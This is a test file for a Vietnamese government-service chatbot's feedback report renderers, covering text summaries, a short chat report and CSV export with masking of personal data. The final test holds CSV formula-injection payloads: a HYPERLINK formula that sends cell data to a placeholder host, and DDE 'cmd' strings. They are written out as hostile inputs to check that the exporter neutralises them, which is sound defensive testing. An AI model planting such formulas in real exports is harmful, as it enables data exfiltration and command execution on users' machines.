import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { CSV_COLUMNS, renderCsv, renderShortText, renderText } from "../../src/feedback/render.js";
import { computeReport } from "../../src/feedback/report.js";
import { allRatings as all, surveyRecord as survey } from "../helpers/survey-records.js";

const NOW = Date.parse("2026-04-01T00:00:00Z");

describe("renderText (dvc-bot report)", () => {
  it("says when nothing has come in yet, for all time", () => {
    const text = renderText(computeReport({ survey: [] }, { now: NOW }));
    expect(text).toContain("Kỳ báo cáo / period: toàn bộ / all time");
    expect(text).toContain("Số phiếu / responses: 0");
    expect(text).toContain("Chỉ số hài lòng chung / overall index: —");
    expect(text).not.toContain("⚠");
  });

  it("prints an open-ended period with an ellipsis", () => {
    expect(renderText(computeReport({ survey: [] }, { now: NOW, since: "2026-03-01" }))).toContain("Kỳ báo cáo / period: 01/03/2026 → …");
  });

  it("shows each aspect's index, mean, count and distribution from 1 to 5", () => {
    const r = computeReport({ survey: [survey("2026-03-01T10:00:00Z", all(5)), survey("2026-03-02T10:00:00Z", { ...all(5), staff: 2 })] }, { now: NOW });
    const staff = renderText(r).split("\n").find((l) => l.includes(r.aspects.find((a) => a.key === "staff")!.label))!;
    expect(staff).toContain("50,0%");
    expect(staff).toContain("TB 3,50");
    expect(staff).toContain("n=2");
    expect(staff).toContain("[0 / 1 / 0 / 0 / 1]");
  });

  it("lists at most ten procedures and says how many more there are", () => {
    const records = Array.from({ length: 12 }, (_, i) => survey(`2026-03-${String(i + 1).padStart(2, "0")}T10:00:00Z`, all(5), { procedureId: `thu-tuc-${i}`, procedure: `Thủ tục ${i}` }));
    const text = renderText(computeReport({ survey: records }, { now: NOW }));
    expect(text).toContain("Theo thủ tục / by procedure:");
    expect(text).toContain("  … và 2 mục khác");
  });

  it("ends with the newest comments first, dated the Vietnamese way and tagged with the procedure", () => {
    const r = computeReport(
      {
        survey: [
          survey("2026-03-01T10:00:00Z", all(5), { comment: "Cán bộ nhiệt tình" }),
          survey("2026-03-09T10:00:00Z", all(4), { comment: "Chờ hơi lâu", procedure: "Đăng ký khai sinh", procedureId: "dang-ky-khai-sinh" }),
        ],
      },
      { now: NOW },
    );
    const lines = renderText(r).split("\n");
    const first = lines.findIndex((l) => l.startsWith("Góp ý / comments (2"));
    expect(lines.slice(first + 1)).toEqual(["  09/03/2026 [Đăng ký khai sinh]: Chờ hơi lâu", "  01/03/2026: Cán bộ nhiệt tình"]);
  });
});

describe("renderShortText (/baocao in chat)", () => {
  it("fits a phone screen: the period, responses, each aspect, helpfulness and the top three unanswered", () => {
    const r = computeReport(
      {
        survey: [survey("2026-03-01T10:00:00Z", all(5))],
        helpful: [{ id: "h1", at: NOW - 10, helpful: true }],
        unanswered: ["nuôi rồng", "nuôi rồng", "nuôi kỳ lân", "xin phép bay", "mua sao hỏa"].map((query, i) => ({ id: `u${i}`, at: NOW - 5 + i, query })),
      },
      { now: NOW },
    );
    const lines = renderShortText(r, "30 ngày qua").split("\n");
    expect(lines[0]).toBe("📊 Mức độ hài lòng — 30 ngày qua");
    expect(lines[1]).toBe("Số phiếu: 1 (ít hơn 10 phiếu — chưa đủ tin cậy)");
    expect(lines).toContain("Hài lòng chung: 100,0%");
    expect(lines).toContain("👍 Trả lời hữu ích: 100,0% (1/1)");
    expect(lines).toContain("❓ Câu hỏi chưa trả lời được: 5");
    expect(lines.filter((l) => /^ {3}\d+× /.test(l))).toHaveLength(3);
    expect(lines).toContain("   2× nuôi rồng");
    expect(lines.length).toBeLessThanOrEqual(16);
  });
});

describe("renderCsv", () => {
  it("has a BOM, CRLF rows, fixed columns, masked text and no raw ids", () => {
    const csv = renderCsv([
      survey("2026-03-01T00:00:00Z", all(5), { respondent: "abcdef0123456789", chatId: "zchat-raw-1", userId: "zuser-raw-1", comment: 'Tốt, "nhanh"; gọi 0987654321', agency: "UBND xã Tân Phú" }),
      { id: "bad", at: 1, note: "not a survey" },
    ]);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const lines = csv.slice(1).trimEnd().split("\r\n");
    expect(lines[0]).toBe(CSV_COLUMNS.join(","));
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain('"Tốt, ""nhanh""; gọi [số điện thoại]"');
    expect(lines[1]).toContain("abcdef0123456789");
    expect(lines[1]).toContain(",5,5,5,5,5,5,5,");
    expect(csv).not.toMatch(/zchat-raw-1|zuser-raw-1/);
  });

  it("neutralises formulas in every text column, keeping ratings numeric", () => {
    const csv = renderCsv([
      survey("2026-03-01T00:00:00Z", { ...all(5), overall: 4 }, {
        comment: '=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")',
        agency: "+cmd|' /C calc'!A0",
        procedure: "@SUM(1+1)*cmd|' /C calc'!A0",
        procedureId: "-2+3",
        ageBand: "\t=1+1",
      }),
      survey("2026-03-02T00:00:00Z", all(3), { comment: "Cán bộ -- rất tốt", agency: "UBND xã Tân Phú" }),
    ]);
    const [header, first, second] = parse(csv.slice(1)) as string[][];
    const col = (row: string[] | undefined, name: string) => row![header!.indexOf(name)];
    expect(col(first, "comment")).toBe(`'=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")`);
    expect(col(first, "agency")).toBe("'+cmd|' /C calc'!A0");
    expect(col(first, "procedure")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(col(first, "procedure_id")).toBe("'-2+3");
    expect(col(first, "age_band")).toBe("'\t=1+1");
    expect(col(first, "rating_overall")).toBe("4");
    // Ordinary text is untouched.
    expect(col(second, "comment")).toBe("Cán bộ -- rất tốt");
    expect(col(second, "agency")).toBe("UBND xã Tân Phú");
  });
});
